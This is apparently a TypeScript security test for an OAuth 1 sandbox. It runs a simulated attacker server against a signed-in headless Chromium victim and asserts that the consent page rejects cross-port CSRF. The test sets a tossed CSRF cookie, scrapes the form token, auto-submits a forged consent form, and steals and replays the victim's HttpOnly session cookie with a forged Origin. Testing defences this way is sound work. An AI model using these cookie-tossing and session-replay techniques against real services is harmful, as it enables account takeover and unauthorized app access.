/**
 * Issue 15 item 1, as the outside probe ran it: the victim is signed in on a listening sandbox in headless
 * Chromium and opens a page on another loopback port. Cookies ignore ports (RFC 6265 §8.5), so that page can
 * set `oauth1x_csrf` to a value it chose (cookie tossing) and learn the matching form token server-side, then
 * submit the consent form from a `no-referrer` page (Chromium sends `Origin: null`, `Sec-Fetch-Site: same-site`
 * and the victim's `SameSite=Lax` session cookie). The same visit also hands the attacker's server the victim's
 * HttpOnly session cookie, which it replays from its own HTTP client with a forged `Origin`. Neither may bring a
 * verifier to the attacker's callback, and the request token stays pending.
 */
import assert from 'node:assert/strict';
import type { IncomingMessage, Server, ServerResponse } from 'node:http';
import { after, before, describe, it } from 'node:test';
import { launchChromium } from '@oauth1x/test-kit/chromium.js';
import type { Credentials } from 'oauth1x';
import { OAuth1Client, xEndpoints } from 'oauth1x/client';
import type { Browser, BrowserContext } from 'playwright-core';
import { createSandbox, type RunningSandbox, type Sandbox } from '../src/index.js';
import { autoSubmitPage, send, startAttacker } from './cross-port-attacker.js';

const TOSSED = 'attackerChosenNonce0123456789';

let sandbox: Sandbox;
let running: RunningSandbox;
let browser: Browser;
let attacker: Server;
let attackerUrl: string;
let attackerApp: OAuth1Client;
/** The request token the attacker is trying to get approved, per test. */
let pending: Credentials;
/** What reached the attacker: verifiers at its callback, tokens it exchanged them for, cookies it was sent. */
let verifiers: string[] = [];
let stolenTokens: string[] = [];
let cookiesSeen: string[] = [];
let replays: number[] = [];

/** The consent page fetched by the attacker's own HTTP client with the cookies it chose: the form token. */
async function learnFormToken(cookie: string, url = attackerApp.authorizeUrl(pending)): Promise<string> {
  const html = await (await fetch(url, { headers: { cookie } })).text();
  const token = /name="csrf" value="([^"]+)"/.exec(html)?.[1];
  assert.ok(token, 'the attacker learns a form token server-side');
  return token;
}

async function attackerRoutes(req: IncomingMessage, res: ServerResponse): Promise<void> {
  const url = new URL(req.url ?? '/', attackerUrl);
  if (req.headers.cookie) cookiesSeen.push(req.headers.cookie);
  if (url.pathname === '/toss') {
    // Cookie tossing: a cookie for 127.0.0.1 set from this port is sent to the sandbox's port too.
    send(res, '<p>loading</p><script>location.replace("/attack")</script>', {
      'set-cookie': `oauth1x_csrf=${TOSSED}; Path=/oauth; SameSite=Lax`,
    });
    return;
  }
  if (url.pathname === '/attack') {
    const csrf = await learnFormToken(`oauth1x_csrf=${TOSSED}`);
    const action = `${running.httpUrl}/oauth/authorize?oauth_token=${encodeURIComponent(pending.key)}`;
    const fields = { oauth_token: pending.key, csrf, 'session[username_or_email]': '', 'session[password]': '', action: 'allow' };
    send(res, autoSubmitPage(action, fields));
    return;
  }
  if (url.pathname === '/steal') {
    // The victim's browser sent every 127.0.0.1 cookie here, the HttpOnly session included: replay it.
    const session = /(?:^|;\s*)(oauth1x_session=[^;]+)/.exec(req.headers.cookie ?? '')?.[1];
    if (session !== undefined) {
      const cookie = `${session}; oauth1x_csrf=${TOSSED}`;
      const csrf = await learnFormToken(cookie);
      const posted = await fetch(`${running.httpUrl}/oauth/authorize?oauth_token=${encodeURIComponent(pending.key)}`, {
        method: 'POST',
        redirect: 'manual',
        headers: { cookie, origin: running.httpUrl, 'sec-fetch-site': 'same-origin', 'content-type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({
          oauth_token: pending.key,
          csrf,
          'session[username_or_email]': '',
          'session[password]': '',
          action: 'allow',
        }),
      });
      replays.push(posted.status);
      const location = posted.headers.get('location');
      if (location !== null) await fetch(location);
      const skip = await fetch(attackerApp.authorizeUrl(pending, { authenticate: true }), { headers: { cookie }, redirect: 'manual' });
      replays.push(skip.status);
      const skipped = skip.headers.get('location');
      if (skipped !== null) await fetch(skipped);
    }
    send(res, '<p id="done">nothing to see</p>');
    return;
  }
  if (url.pathname === '/cb') {
    const verifier = url.searchParams.get('oauth_verifier');
    if (verifier !== null) {
      verifiers.push(verifier);
      const { params } = await attackerApp.accessToken(pending, verifier);
      stolenTokens.push(params.screen_name ?? '');
    }
    send(res, '<p id="cb">callback</p>');
    return;
  }
  res.writeHead(404).end();
}

before(async () => {
  sandbox = await createSandbox({ memory: true });
  running = await sandbox.listen({ port: 0, httpsPort: false });
  browser = await launchChromium();
  ({ server: attacker, url: attackerUrl } = await startAttacker(attackerRoutes));
  const app = sandbox.accounts.createApp({ name: 'Attacker app', callbackUrls: [`${attackerUrl}/cb`] });
  attackerApp = new OAuth1Client({
    consumer: { key: app.consumerKey, secret: app.consumerSecret },
    endpoints: xEndpoints(running.httpUrl),
  });
});
after(async () => {
  await browser?.close();
  await new Promise((r) => attacker?.close(r));
  await running?.close();
  await sandbox?.close();
});

/** A browser context where alice has signed in on the consent page (approving the demo app with her password). */
async function signedInVictim(): Promise<BrowserContext> {
  const c = sandbox.credentials;
  const demo = new OAuth1Client({ consumer: { key: c.consumer_key, secret: c.consumer_secret }, endpoints: xEndpoints(running.httpUrl) });
  const { token } = await demo.requestToken({ callback: 'oob' });
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(demo.authorizeUrl(token));
  await page.fill('#username', 'alice');
  await page.fill('#password', c.users.find((u) => u.username === 'alice')?.password ?? '');
  await page.click('#allow');
  await page.waitForSelector('#pin', { timeout: 10_000 });
  const cookies = await context.cookies(running.httpUrl);
  assert.ok(
    cookies.some((k) => k.name === 'oauth1x_session' && k.httpOnly),
    'the victim has an HttpOnly session cookie',
  );
  await page.close();
  return context;
}

/** The attacker's request token is still pending: its consent page still shows the form. */
async function stillPending(): Promise<void> {
  const page = await fetch(attackerApp.authorizeUrl(pending));
  assert.equal(page.status, 200);
  assert.match(await page.text(), /Authorize Attacker app/);
}

describe('CSRF on the consent page from another loopback port (headless Chromium)', { timeout: 120_000 }, () => {
  it('cookie tossing + token learned server-side + no-referrer auto-submit: 403, no verifier, no token', async () => {
    verifiers = [];
    stolenTokens = [];
    pending = (await attackerApp.requestToken({ callback: `${attackerUrl}/cb` })).token;
    const context = await signedInVictim();
    try {
      const page = await context.newPage();
      const finished = page.waitForEvent('requestfinished', { predicate: (r) => r.method() === 'POST', timeout: 20_000 });
      await page.goto(`${attackerUrl}/toss`);
      const request = await finished;
      const post = { headers: await request.allHeaders(), status: (await request.response())?.status() };
      await page.waitForURL((u) => u.href.startsWith(running.httpUrl) || u.pathname === '/cb', { waitUntil: 'load', timeout: 20_000 });
      // The probe's request, exactly: Origin null, same-site, the tossed nonce and the victim's session cookie.
      assert.equal(post.headers.origin, 'null');
      assert.equal(post.headers['sec-fetch-site'], 'same-site');
      assert.match(post.headers.cookie ?? '', new RegExp(`oauth1x_csrf=${TOSSED}`));
      assert.match(post.headers.cookie ?? '', /oauth1x_session=/);
      assert.deepEqual(verifiers, [], 'no verifier reached the attacker’s callback');
      assert.deepEqual(stolenTokens, [], 'the attacker got no access token');
      assert.equal(post.status, 403);
      assert.match((await page.textContent('.error')) ?? '', /CSRF check failed/);
      await stillPending();
    } finally {
      await context.close();
    }
  });

  it('the session cookie the visit hands to the other port, replayed with a forged Origin: no verifier, no token', async () => {
    verifiers = [];
    stolenTokens = [];
    cookiesSeen = [];
    replays = [];
    pending = (await attackerApp.requestToken({ callback: `${attackerUrl}/cb` })).token;
    const context = await signedInVictim();
    try {
      const page = await context.newPage();
      await page.goto(`${attackerUrl}/steal`);
      await page.waitForSelector('#done', { timeout: 20_000 });
      // The premise: Chromium sends the sandbox's HttpOnly session cookie to a server on another port.
      assert.ok(
        cookiesSeen.some((c) => c.includes('oauth1x_session=')),
        'the attacker’s server received the session cookie',
      );
      assert.deepEqual(verifiers, [], 'no verifier reached the attacker’s callback');
      assert.deepEqual(stolenTokens, [], 'the attacker got no access token');
      assert.equal(replays[0], 401, 'approving needs the password, never a cookie alone');
      assert.equal(replays[1], 200, '/oauth/authenticate shows the prompt for an app the user never authorized');
      await stillPending();
    } finally {
      await context.close();
    }
  });
});
